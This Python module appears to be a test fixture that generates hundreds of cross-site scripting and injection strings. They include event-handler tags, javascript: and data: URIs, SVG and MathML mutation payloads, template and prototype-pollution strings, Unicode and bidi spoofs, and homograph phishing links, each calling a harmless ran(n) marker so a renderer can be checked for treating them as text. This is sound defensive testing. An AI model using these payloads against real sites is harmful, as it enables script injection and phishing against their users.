"""Texts that would run as script, or mislead, if anything took them for more than text.

Each is made to call `ran(number)` in its own way. None holds a character that a frame refuses, nor a real secret.
"""

from __future__ import annotations

from itertools import product
from typing import Final

TAGS: Final = (
    "script", "img src=x", "svg", "iframe srcdoc='<script>ran(@)</script>'", "object data=x", "embed src=x",
    "video src=x", "audio src=x", "body", "input autofocus", "details open", "marquee", "form", "select autofocus",
    "textarea autofocus", "style", "math", "button", "a href=# tabindex=1", "custom-element tabindex=1",
)  # fmt: skip
EVENTS: Final = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "onbeforetoggle",
)
ENDS: Final = (
    "\">", "'>", "`>", "</textarea>", "</title>", "</script>", "</style>", "</template>", "</noscript>", "-->", "]]>",
    "</dialog>", "</button>", "</svg>", "\\\">", "\n\n>", "*/", "})});", "</p></article>", "\u2028>",
)  # fmt: skip
SCHEMES: Final = (
    "javascript:ran(@)", "JaVaScRiPt:ran(@)", "java\tscript:ran(@)", "java\nscript:ran(@)", "\x85javascript:ran(@)",
    " javascript:ran(@)", "javascript&colon;ran(@)", "&#106;avascript:ran(@)", "javascript\u200b:ran(@)",
    "javascript://x.example/%0aran(@)", "data:text/html,<script>ran(@)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=ran(@)>", "vbscript:ran(@)", "blob:null/ran(@)", "file:///etc/passwd#ran(@)",
    "view-source:javascript:ran(@)", "filesystem:javascript:ran(@)", "//evil.example/ran(@)", "ｊavascript:ran(@)",
)  # fmt: skip
SVG: Final = (
    "<svg><script>ran(@)</script></svg>", "<svg><script href='data:,ran(@)'/></svg>",
    "<svg><a xlink:href='javascript:ran(@)'><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=ran(@) attributeName=x dur=1s>", "<svg><set attributeName=onload to=ran(@)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=ran(@)>#x'/>", "<svg><foreignObject><img src onerror=ran(@)>",
    "<svg><style><img title='</style><img src onerror=ran(@)>'>", "<svg><title><img src onerror=ran(@)></title></svg>",
    "<svg><desc><script>ran(@)</script></desc></svg>", "<svg onload=ran(@)//", "<svg/onload=ran(@)>",
    "<svg><discard onbegin=ran(@)>", "<svg><image href=x onerror=ran(@)>", "<svg><handler type='text/javascript'>ran(@)",
)  # fmt: skip
MATHML: Final = (
    "<math><mtext><table><mglyph><style><img src onerror=ran(@)>", "<math href='javascript:ran(@)'>x</math>",
    "<math><mi xlink:href='data:x,<script>ran(@)</script>'>", "<math><annotation-xml encoding='text/html'><img src onerror=ran(@)>",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:ran(@)'>x", "<math><mtext></form><img src onerror=ran(@)>",
)  # fmt: skip
TEMPLATES: Final = (
    "{{constructor.constructor('ran(@)')()}}", "${ran(@)}", "#{ran(@)}", "<%= ran(@) %>", "{{= ran(@) }}", "{% ran(@) %}",
    "[[ran(@)]]", "@{ran(@)}", "{{{ran(@)}}}", "*{ran(@)}", "{!ran(@)!}", "<template shadowrootmode=open><img src onerror=ran(@)></template>",
    "<div><template><img src onerror=ran(@)>", "<slot onslotchange=ran(@)>", "__proto__[innerHTML]=<img src onerror=ran(@)>",
    '{"dangerouslySetInnerHTML":{"__html":"<img src onerror=ran(@)>"}}', '{"type":"script","props":{"children":"ran(@)"}}',
    "constructor", "__proto__", "toString", "hasOwnProperty", "%s%n%x", "$&$`$'$1", "\\u003cimg src onerror=ran(@)\\u003e",
)  # fmt: skip
UNICODE: Final = (
    "＜script＞ran(@)＜/script＞", "\ufeff<script>ran(@)</script>", "<\u200bscript>ran(@)</script>", "<scr\u00adipt>ran(@)</script>",
    "%3Cscript%3Eran(@)%3C/script%3E", "&lt;script&gt;ran(@)&lt;/script&gt;", "&#60;script&#62;ran(@)&#60;/script&#62;",
    "&amp;lt;img src onerror=ran(@)&amp;gt;", "+ADw-script+AD4-ran(@)+ADw-/script+AD4-", "\u2028<script>ran(@)</script>\u2029",
    "<\u017fcript>ran(@)</\u017fcript>", "<\u212ascript>ran(@)", "\u1680<img src onerror=ran(@)>", "ÀÁ<ｉmg src onerror=ran(@)>",
    "Z̵̛̩a̶̡l̴̰g̸̙o<img src onerror=ran(@)>", "👩‍👩‍👧‍👦<img src onerror=ran(@)>", "<img\x85src\x85onerror=ran(@)>", "<img/\u2003/src/onerror=ran(@)>",
)  # fmt: skip
STYLES: Final = (
    "<style>@import 'data:text/css,*{x:expression(ran(@))}';</style>", "<p style='background:url(javascript:ran(@))'>",
    "<p style='x:expression(ran(@))'>", "<p style='-moz-binding:url(x#ran)'>", "<link rel=stylesheet href='data:text/css,*{color:red}'>",
    "<style>*{display:none}</style>", "<p style='position:fixed;inset:0;z-index:9999999'>covers all</p>", "</style><img src onerror=ran(@)>",
    "<style>a[href^='h']{background:url(//evil.example/@)}</style>", "<x style='animation-name:x' onanimationend=ran(@)>",
)  # fmt: skip
MUTATIONS: Final = (
    "<noscript><p title='</noscript><img src onerror=ran(@)>'>", "<form id=app><input name=children>", "<img name=body id=config>",
    "<a id=location href='javascript:ran(@)'>x</a>", "<base href='javascript:/a/-ran(@)//'>", "<meta http-equiv=refresh content='0;url=javascript:ran(@)'>",
    "<xmp><img src onerror=ran(@)></xmp>", "<plaintext><img src onerror=ran(@)>", "<!--><img src onerror=ran(@)>-->", "<![CDATA[<img src onerror=ran(@)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>ran(@)</x:script>", "<iframe src='javascript:ran(@)'></iframe>",
    "<object type='text/x-scriptlet' data='javascript:ran(@)'>", "<isindex action=javascript:ran(@) type=image>", "<applet code='javascript:ran(@)'>",
    "<frameset onload=ran(@)>", "<table background='javascript:ran(@)'>", "<portal src='javascript:ran(@)'>", "<link rel=import href='data:text/html,<script>ran(@)</script>'>",
    "<button form=x formaction='javascript:ran(@)'>X", "<input type=image src=x formaction='javascript:ran(@)'>", "<dialog open onclose=ran(@)>",
    "<div popover=auto onbeforetoggle=ran(@)>x</div>", "<a href='javascript:ran(@)'>click me</a>", "[click](javascript:ran(@))", "![x](x\"onerror=\"ran(@))",
)  # fmt: skip
BIDI: Final = (
    "\u202ehttps://gro.elpmaxe//:sptth", "a\u202etxt.exe", "\u2066https://evil.example\u2069\u202d x", "\u200fhttps://x.example\u200e",
    "\u061chttps://air.example\u202b/<img src onerror=ran(@)>", "https://air.example/\u202egnp.js",
)  # fmt: skip
# Links: those before the bar may be drawn as links, those behind it must stay text.
GOOD_LINKS: Final = (
    "https://air.example/", "http://air.example/path?q=1&r=<b>#x", "HTTPS://AIR.EXAMPLE/Upper", "https://xn--80ak6aa92e.example/",
    "https://air.example:8443/a(b)c", "see https://air.example/end.", "https://air.example/\"onmouseover=ran(@)//",
    "https://127.0.0.1/x'onclick='ran(@)",
)  # fmt: skip
BAD_LINKS: Final = (
    "https://аpple.com/", "https://exаmple.com/login", "https://good.example@evil.example/", "https://user:pass@evil.example/",
    "www.air.example", "air.example/login", "ftp://air.example/", "https://ａir.example/", "https://air。example/", "https://",
    "https:///air.example", "https:\\\\air.example", "https://[::1]/", "https://%61ir.example/", "ws://air.example/",
    "mailto:a@air.example?body=<script>ran(@)</script>", "https://ΑIR.example/", "https://-air.example/", "intent://x#Intent;end",
)  # fmt: skip
LONG: Final = (
    "<b>" * 300 + "ran",
    "<" * 900,
    "\u0300" * 300 + "x",
    "<img src=x onerror='ran(@);" + "x" * 800 + "'>",
    "&" * 500,
)


def texts() -> list[str]:
    """All of them, each with its own number in it."""
    found: list[str] = [f"<{tag} {event}=ran(@)>" for tag, event in product(TAGS, EVENTS)]
    found += [f"{end}<img src=x onerror=ran(@)>" for end in ENDS]
    found += [f"{scheme}" for scheme in SCHEMES] + [f'<a href="{scheme}">x</a>' for scheme in SCHEMES]
    for family in (SVG, MATHML, TEMPLATES, UNICODE, STYLES, MUTATIONS, BIDI, GOOD_LINKS, BAD_LINKS, LONG):
        found += family
    return [text.replace("@", str(number)) if "ran(@)" in text else text for number, text in enumerate(found)]


def packed(all_texts: list[str], size: int = 3_600) -> list[str]:
    """The same, many to a message: each on a line of its own, at most `size` characters together."""
    messages: list[str] = [""]
    for text in all_texts:
        if messages[-1] and len(messages[-1]) + len(text) + 1 > size:
            messages.append("")
        messages[-1] += ("\n" if messages[-1] else "") + text
    return messages
